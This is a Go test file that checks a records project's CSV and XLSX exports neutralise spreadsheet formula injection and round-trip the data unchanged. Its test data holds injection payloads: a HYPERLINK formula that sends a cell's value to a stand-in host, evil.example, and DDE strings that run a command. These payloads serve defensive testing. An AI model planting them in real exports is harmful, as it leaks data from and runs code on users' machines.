package export

import (
	"bytes"
	"encoding/csv"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/rollcall-project/rollcall"
	"github.com/rollcall-project/rollcall/internal/export/csvcell"
	"github.com/rollcall-project/rollcall/internal/ingest"
	"github.com/rollcall-project/rollcall/internal/store"
	"github.com/rollcall-project/rollcall/internal/storetest"
)

// formulas are the seven formula payloads planted in issue 12 (finding 6)
// and their kin: each would run in a spreadsheet opening a naive CSV.
var formulas = []string{
	`=1+2`, `=HYPERLINK("http://evil.example/?leak="&A2,"Click")`, `+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+9)*cmd|' /C calc'!A0`, "\t=1+2", "\r=1+2", `'=1+2`,
}

// plantFormulas adds a source and records whose text fields carry the
// payloads, and a facility with negative coordinates (numbers that start
// with "-").
func plantFormulas(t *testing.T, st *store.Store) []rollcall.Record {
	t.Helper()
	ctx := ctxSystem()
	src := &rollcall.Source{Key: "=src", Kind: "testimony", Title: "=2+2", Notes: "@notes", Sensitivity: rollcall.Internal}
	if err := st.CreateSource(ctx, src); err != nil {
		t.Fatal(err)
	}
	var recs []rollcall.Record
	years := 12.5
	for i, f := range formulas {
		r := rollcall.Record{SourceID: src.ID, Key: "k" + strconv.Itoa(i), Name: f, NameAlt: f, Charge: f, BirthPlace: f,
			Province: f, FacilityText: f, BirthDate: rollcall.MustDate("c. 1961"), ArrestDate: rollcall.MustDate("1999-03"),
			SentenceYears: &years, Sensitivity: rollcall.Internal, Fictional: true}
		if err := st.CreateRecord(ctx, &r); err != nil {
			t.Fatalf("create record %q: %v", f, err)
		}
		recs = append(recs, r)
	}
	lat, lon := -12.5, -45.25
	fac := &rollcall.Facility{Key: "south", NameEn: "-Camp", Type: "kwanliso", Lat: &lat, Lon: &lon}
	if err := st.CreateFacility(ctx, fac); err != nil {
		t.Fatal(err)
	}
	return recs
}

// TestCSVExportNeutralisesFormulas: no CSV cell a spreadsheet would run as
// a formula leaves the export, numbers (negative ones too) and partial
// dates stay as written, and importing the export restores every planted
// value exactly (issue 12, finding 6).
func TestCSVExportNeutralisesFormulas(t *testing.T) {
	storetest.Run(t, testCSVExportNeutralisesFormulas)
}

func testCSVExportNeutralisesFormulas(t *testing.T, db storetest.DB) {
	st, _ := setup(t, db)
	plantFormulas(t, st)
	for _, e := range []string{Sources, Records, Facilities, Events, Persons} {
		out, _ := export(t, st, e, CSV)
		rows, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, row := range rows {
			for j, c := range row {
				if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) && !csvcell.IsNumber(c) {
					t.Errorf("%s %s: cell %q would run as a formula", e, rows[0][j], c)
				}
			}
		}
	}
	out, _ := export(t, st, Facilities, CSV)
	for _, want := range []string{",-12.5,-45.25,", ",'-Camp,"} {
		if !bytes.Contains(out, []byte(want)) {
			t.Errorf("facilities CSV lacks %q", want)
		}
	}
	out, _ = export(t, st, Records, CSV)
	for _, want := range []string{",~1961,", ",1999-03,", ",12.5,", `'=HYPERLINK(`, "'\t=1+2", `''=1+2`} {
		if !bytes.Contains(out, []byte(want)) {
			t.Errorf("records CSV lacks %q", want)
		}
	}
	reimport(t, st, CSV)
}

// reimport exports sources and records in format, imports them again and
// checks that nothing changed and the planted values read back exactly.
func reimport(t *testing.T, st *store.Store, format string) {
	t.Helper()
	ctx := ctxSystem()
	dir := t.TempDir()
	var paths []string
	for _, e := range []string{Sources, Records} {
		p := filepath.Join(dir, e+"."+format)
		if _, err := WriteFile(ctx, st, p, Options{Entity: e, Format: format}); err != nil {
			t.Fatal(err)
		}
		paths = append(paths, p)
	}
	res, err := ingest.Import(ctx, st, paths, ingest.Options{})
	if err != nil {
		t.Fatalf("re-import the %s export: %v", format, err)
	}
	if res.Records.Created+res.Records.Updated+res.Sources.Created+res.Sources.Updated != 0 {
		t.Errorf("re-importing the %s export changed data: %+v", format, res)
	}
	src, err := st.SourceByKey(ctx, "=src")
	if err != nil || src.Title != "=2+2" || src.Notes != "@notes" {
		t.Fatalf("source after re-import: %+v %v", src, err)
	}
	for i, f := range formulas {
		r, err := st.RecordByKey(ctx, src.ID, "k"+strconv.Itoa(i))
		if err != nil {
			t.Fatal(err)
		}
		if r.Name != f || r.Charge != f || r.Province != f {
			t.Errorf("%s round trip of %q: name %q charge %q province %q", format, f, r.Name, r.Charge, r.Province)
		}
	}
}

// TestXLSXExport: the XLSX export has the CSV export's columns and values,
// one sheet named after the entity, numbers as numbers, dates and text as
// text, no formula anywhere, and imports back unchanged.
func TestXLSXExport(t *testing.T) { storetest.Run(t, testXLSXExport) }

func testXLSXExport(t *testing.T, db storetest.DB) {
	st, _ := setup(t, db)
	plantFormulas(t, st)
	for _, e := range Entities {
		csvOut, cstats := export(t, st, e, CSV)
		rows, err := csv.NewReader(bytes.NewReader(csvOut)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		xOut, xstats := export(t, st, e, XLSX)
		if xstats != cstats {
			t.Errorf("%s: xlsx stats %+v, csv %+v", e, xstats, cstats)
		}
		f, err := excelize.OpenReader(bytes.NewReader(xOut))
		if err != nil {
			t.Fatalf("%s: not a workbook: %v", e, err)
		}
		if got := f.GetSheetList(); len(got) != 1 || got[0] != e {
			t.Fatalf("%s: sheets %v", e, got)
		}
		xrows, err := f.GetRows(e, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		if len(xrows) != len(rows) {
			t.Fatalf("%s: %d xlsx rows, %d csv rows", e, len(xrows), len(rows))
		}
		for i, row := range rows {
			for j, c := range row {
				want := csvcell.Restore(c)
				got := ""
				if j < len(xrows[i]) {
					got = xrows[i][j]
				}
				if got != want {
					t.Fatalf("%s row %d column %s: xlsx %q, csv %q", e, i+1, rows[0][j], got, want)
				}
				if c == "" || i == 0 {
					continue
				}
				cell, _ := excelize.CoordinatesToCellName(j+1, i+1)
				typ, _ := f.GetCellType(e, cell)
				if numericColumns[rows[0][j]] != (typ == excelize.CellTypeNumber || typ == excelize.CellTypeUnset) {
					t.Errorf("%s %s %q: cell type %v", e, rows[0][j], c, typ)
				}
				if fm, _ := f.GetCellFormula(e, cell); fm != "" {
					t.Errorf("%s %s: a formula %q", e, cell, fm)
				}
			}
		}
		f.Close()
	}
	reimport(t, st, XLSX)
}
